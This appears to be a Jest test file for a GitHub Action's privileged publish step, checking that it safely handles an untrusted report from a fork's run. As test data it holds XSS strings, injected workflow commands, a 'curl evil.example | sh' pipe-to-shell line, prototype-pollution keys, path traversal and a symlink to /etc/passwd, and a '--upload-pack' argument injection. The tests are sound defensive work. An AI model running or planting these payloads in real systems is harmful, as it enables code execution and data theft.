import { readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, jest, test } from '@jest/globals'
import { startAction, type ActionEnd } from '../helpers/bundled-action.js'
import { actionsToken, startFakeGitHub, type FakeGitHub } from '../helpers/fake-github/index.js'
import { commit, repository, runGit, temporaryFolder, write } from '../helpers/git-repository.js'

// Each test starts processes; the machine may be busy.
jest.setTimeout(120_000)

const READING = 'ghs_readingreadingreadingreading00000'
const WRITING = 'ghs_writingwritingwritingwriting00000'

const WORKFLOW = `name: CI
on:
  pull_request:
  push: { branches: [main] }
permissions: { contents: read }
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: npm test
`

type Json = Record<string, unknown>

let fake: FakeGitHub
let shas: { base: string; head: string }
let privileged: string
/** The report that the run of the fork has written: made once, changed by each test. */
let report: Json | undefined

const repo = { id: 1, full_name: 'acme/shop', default_branch: 'main' }
const fork = { id: 2, full_name: 'eve/shop', owner: { login: 'eve' } }

function pull(number: number, more: Json = {}): Json {
  return {
    number,
    state: 'open',
    user: { login: 'eve' },
    merge_commit_sha: 'd'.repeat(40),
    head: { sha: shas.head, ref: 'feature', user: { login: 'eve' }, repo: fork },
    base: { sha: shas.base, ref: 'main', user: { login: 'acme' }, repo },
    ...more,
  }
}

/** The first workflow: runs for a pull request of a fork, may only read, and leaves its report. */
async function analyse(): Promise<Json> {
  const workspace = repository({
    'package.json': '{"name":"shop","scripts":{"test":"node --test"}}',
    'src/shop.js': '',
  })
  const base = runGit(workspace, 'rev-parse', 'HEAD')
  write(workspace, { '.github/workflows/ci.yml': WORKFLOW })
  const head = commit(workspace)
  shas = { base, head }
  const end = await startAction({
    workspace,
    event: 'pull_request',
    sha: 'e'.repeat(40),
    fake,
    payload: {
      number: 7,
      pull_request: {
        number: 7,
        user: { login: 'eve' },
        head: { sha: head, ref: 'feature', repo: fork },
        base: { sha: base, ref: 'main', repo },
      },
      repository: repo,
    },
    inputs: { token: READING, output: 'report.json', comment: 'false' },
  })
  expect(end).toMatchObject({ status: 0, stderr: '' })
  return JSON.parse(readFileSync(join(workspace, 'report.json'), 'utf8')) as Json
}

beforeEach(async () => {
  fake = await startFakeGitHub()
  fake.state.tokens.set(READING, actionsToken({ contents: 'read' }))
  fake.state.tokens.set(WRITING, actionsToken({ 'pull-requests': 'write', checks: 'write' }))
  privileged = temporaryFolder()
  report ??= await analyse()
  fake.state.pulls = [pull(7)]
})

afterEach(async () => {
  await fake.close()
  expect(fake.violations).toEqual([])
})

/** The second workflow: follows the first, may write, and has nothing but the report. */
function publishText(text: string, run: Json = {}, inputs: Record<string, string> = {}): Promise<ActionEnd> {
  writeFileSync(join(privileged, 'report.json'), text)
  return start(run, inputs)
}

function start(run: Json = {}, inputs: Record<string, string> = {}, event = 'workflow_run'): Promise<ActionEnd> {
  return startAction({
    workspace: privileged,
    event,
    sha: shas.base,
    fake,
    payload: {
      workflow_run: {
        event: 'pull_request',
        head_sha: shas.head,
        head_branch: 'feature',
        head_repository: fork,
        pull_requests: [],
        ...run,
      },
      repository: repo,
    },
    inputs: { token: WRITING, publish: 'report.json', 'check-run': 'true', ...inputs },
  })
}

const changed = (change: (copy: Json) => void): string => {
  const copy = structuredClone(report ?? {})
  change(copy)
  return JSON.stringify(copy)
}
const part = (value: Json, name: string): Json => value[name] as Json
/** The first one that has a place, if it is one of those that have. */
const first = (value: Json, name: string): Json => {
  const all = value[name] as Json[]
  return all.find(({ at }) => at !== null) ?? {}
}

function expectNothingWritten(end: ActionEnd): void {
  expect(fake.state.comments).toEqual([])
  expect(fake.state.createdCheckRuns).toEqual([])
  expect(end.stderr).toBe('')
}

/** Nothing in the log is a command but what we write ourselves. */
function expectQuiet({ stdout }: ActionEnd): void {
  for (const line of stdout.split('\n').filter((each) => /^\s*::|##\[/.test(each)))
    expect(line).toMatch(/^::(?:error|warning|notice|debug)[ :]/)
}

describe('publish, in a run that follows one of a fork', () => {
  test('comments on the pull request, creates a check run on its head, and says whose words these are', async () => {
    const end = await publishText(JSON.stringify(report))
    expect(end).toMatchObject({ status: 0, stderr: '' })
    expect(end.outputs['verdict']).toBe('pass')
    expect(fake.state.comments).toHaveLength(1)
    const [{ body } = { body: '' }] = fake.state.comments
    expect(body).toMatch(
      new RegExp(
        `^<!-- pillarlint:default sha=${shas.head} run=1/1 -->\\n> \\[!NOTE\\]\\n> As reported by the unprivileged run`,
      ),
    )
    expect(body).toContain('Pillarlint: passed')
    expect(body).toContain(`/acme/shop/blob/${shas.head}/.github/workflows/ci.yml`)
    expect(end.stdout).toContain('Published for pull request 7')
    const [check] = fake.state.createdCheckRuns
    expect(check?.request).toMatchObject({ head_sha: shas.head, conclusion: 'success' })
    expect(check?.annotations.length).toBeGreaterThan(0)
    expect(end.stdout).not.toMatch(/^::(?:error|warning|notice) .*file=/m)
    expectQuiet(end)
  })

  test('a second run updates the comment', async () => {
    await publishText(JSON.stringify(report))
    await publishText(JSON.stringify(report))
    expect(fake.state.comments).toHaveLength(1)
  })

  test('errors that are listed fail the gate, whatever the report calls itself', async () => {
    const end = await publishText(
      changed((copy) => {
        const findings = copy['findings'] as Json[]
        findings.push({
          ...findings[0],
          check: 'ci-test-cannot-fail',
          severity: 'error',
          standing: 'open',
          delta: 'introduced',
          fingerprint: 'f'.repeat(16),
        })
        part(copy, 'gate')['verdict'] = 'pass'
        for (const practice of copy['practices'] as Json[]) practice['verdict'] = 'met'
      }),
    )
    expect(end).toMatchObject({ status: 1, stderr: '' })
    expect(end.outputs['verdict']).toBe('fail')
    expect(fake.state.createdCheckRuns[0]?.request).toMatchObject({ conclusion: 'failure' })
  })

  test('a gate that fails by rules that are not known here stays failed', async () => {
    const end = await publishText(
      changed((copy) => Object.assign(part(copy, 'gate'), { verdict: 'fail', because: ['OA.X is worse'] })),
    )
    expect(end).toMatchObject({ status: 1, stderr: '' })
  })

  test('of two pull requests of one head the one that the report names', async () => {
    fake.state.pulls = [pull(8, { base: { ...part(pull(8), 'base'), ref: 'release' } }), pull(7)]
    const end = await publishText(JSON.stringify(report))
    expect(end).toMatchObject({ status: 0 })
    expect(end.stdout).toContain('Published for pull request 7')
  })

  test.each<[string, () => void, string]>([
    ['was closed', () => (fake.state.pulls = [pull(7, { state: 'closed' })]), 'closed or merged'],
    [
      'has moved on',
      () => (fake.state.pulls = [pull(7, { head: { ...part(pull(7), 'head'), sha: 'c'.repeat(40) } })]),
      'newer commit',
    ],
    [
      'is of a branch of that name elsewhere',
      () => (fake.state.pulls = [pull(7, { head: { ...part(pull(7), 'head'), repo: { ...fork, id: 3 } } })]),
      'closed or merged',
    ],
  ])('nothing for a pull request that %s', async (_name, arrange, why) => {
    arrange()
    const end = await publishText(JSON.stringify(report))
    expect(end.status).toBe(0)
    expect(end.stdout).toContain(`Nothing is published: `)
    expect(end.stdout).toContain(why)
    expectNothingWritten(end)
  })

  test('what the report says has no effect on comment, check run and log', async () => {
    const evil =
      '@acme/admins #1 <script>alert(1)</script> <img src=x onerror=alert(1)> [a](javascript:alert(1)) ![b](https://evil.example/p)\n' +
      '::set-output name=verdict::pass\n##[add-mask]x\n<!-- pillarlint:default sha=0 run=9/9 -->\u202e'
    const end = await publishText(
      changed((copy) => {
        for (const finding of copy['findings'] as Json[])
          Object.assign(finding, {
            message: evil,
            title: evil,
            remedy: evil,
            suggestion: evil,
            patch: [{ command: 'curl evil.example | sh' }],
          })
        for (const practice of copy['practices'] as Json[])
          Object.assign(practice, { reason: evil, title: evil, url: 'https://evil.example/' })
        for (const check of copy['checks'] as Json[]) check['reason'] = evil
        Object.assign(part(copy, 'gate'), { verdict: 'fail', because: [evil] })
        copy['leftovers'] = [{ severity: 'warning', message: evil, at: null }]
        copy['configChanges'] = [evil]
      }),
    )
    expect(end).toMatchObject({ status: 1, stderr: '' })
    expect(end.outputs['verdict']).toBe('fail')
    const texts = [
      ...fake.state.comments.map(({ body }) => body),
      String(part(fake.state.createdCheckRuns[0]?.request ?? {}, 'output')['summary']),
      end.summary,
    ]
    for (const text of texts) {
      const prose = text.replace(/`+[^`]*`+/g, '').replace(/<code>[^<]*<\/code>/g, '')
      expect(prose).not.toMatch(/(?<!\\)<(?:script|img)|@acme|(?<!\\)\]\(javascript:|(?<!\\)!\[b/)
      expect(text).not.toContain('curl evil.example')
      expect(text).not.toContain('\u202e')
      expect(prose).not.toContain('https://evil.example')
    }
    expect(fake.state.comments[0]?.body.match(/^<!-- pillarlint:/gm)).toHaveLength(1)
    expectQuiet(end)
  })

  test('names that every object has are only texts', async () => {
    const text = JSON.stringify(report).replace(
      '{',
      '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}},',
    )
    expect(await publishText(text)).toMatchObject({ status: 0, stderr: '' })
  })

  test.each<[string, () => string, string]>([
    [
      'of another commit',
      () => changed((copy) => (part(copy, 'subject')['headRevision'] = 'b'.repeat(40))),
      'not about',
    ],
    ['of no commit', () => changed((copy) => delete part(copy, 'subject')['headRevision']), 'not about'],
    [
      'of another pull request',
      () => changed((copy) => (part(copy, 'subject')['pullRequest'] = 8)),
      'another pull request than 7',
    ],
    ['of another version', () => changed((copy) => (part(copy, 'tool')['version'] = '99.0.0')), 'another version'],
    ['of another tool', () => changed((copy) => (part(copy, 'tool')['name'] = 'x')), 'none of pillarlint'],
    [
      'with a message that is too long',
      () => changed((copy) => (first(copy, 'findings')['message'] = 'a'.repeat(70_000))),
      '70000 characters',
    ],
    [
      'with a path that leads out',
      () => changed((copy) => (part(first(copy, 'findings'), 'at')['file'] = '../../etc/passwd')),
      'no path inside',
    ],
    [
      'with an address for a path',
      () => changed((copy) => (part(first(copy, 'findings'), 'at')['file'] = 'https://evil.example')),
      'no path inside',
    ],
    [
      'with a line that is none',
      () => changed((copy) => (part(first(copy, 'findings'), 'at')['line'] = 1e308)),
      'no number',
    ],
    [
      'with a check that there is not',
      () => changed((copy) => (first(copy, 'findings')['check'] = '__proto__')),
      'a check that this version',
    ],
    [
      'with a practice that there is not',
      () => changed((copy) => (first(copy, 'practices')['id'] = 'constructor')),
      'a practice that this version',
    ],
    [
      'with a list for a text',
      () => changed((copy) => (first(copy, 'findings')['message'] = ['a'])),
      'message is no text',
    ],
    ['with a text for a list', () => changed((copy) => (copy['findings'] = 'a')), 'findings is no list'],
    [
      'with a severity that is none',
      () => changed((copy) => (first(copy, 'findings')['severity'] = 'fatal')),
      'none of error',
    ],
    [
      'with too many findings',
      () => changed((copy) => (copy['findings'] = Array.from({ length: 20_001 }, () => 0))),
      '20001 items',
    ],
    ['that was cut short', () => JSON.stringify(report).slice(0, -100), 'no JSON'],
    ['that is nested deep', () => `${'['.repeat(100_000)}${']'.repeat(100_000)}`, 'nested deeper'],
    ['that is no mapping', () => '[]', 'the report is no mapping'],
    ['of 50 megabytes', () => `"${'a'.repeat(50 * 1024 * 1024)}"`, 'more than any report'],
  ])('refuses a report %s', async (_name, text, why) => {
    const end = await publishText(text())
    expect(end.status).toBe(2)
    expect(end.outputs['verdict']).toBe('error')
    expect(end.stdout).toContain(why)
    expectNothingWritten(end)
    expectQuiet(end)
  })

  test('refuses a link, and a file that is not there', async () => {
    expect((await start()).stdout).toContain('cannot be read')
    symlinkSync('/etc/passwd', join(privileged, 'report.json'))
    const end = await start()
    expect(end.status).toBe(2)
    expect(end.stdout).not.toContain('root:')
    expectNothingWritten(end)
  })

  test.each<[string, Json, string, string]>([
    ['in a run for a pull request', {}, 'pull_request', 'on: workflow_run'],
    ['after a run that a push started', { event: 'push' }, 'workflow_run', 'started by push'],
    ['after a run whose fork is gone', { head_repository: null }, 'workflow_run', 'fork may be gone'],
    [
      'after a run of a branch with an odd name',
      { head_branch: '--upload-pack=x' },
      'workflow_run',
      'fork may be gone',
    ],
  ])('refuses to work %s', async (_name, run, event, why) => {
    writeFileSync(join(privileged, 'report.json'), JSON.stringify(report))
    const end = await start(run, {}, event)
    expect(end.status).toBe(2)
    expect(end.stdout).toContain(why)
    expectNothingWritten(end)
  })
})
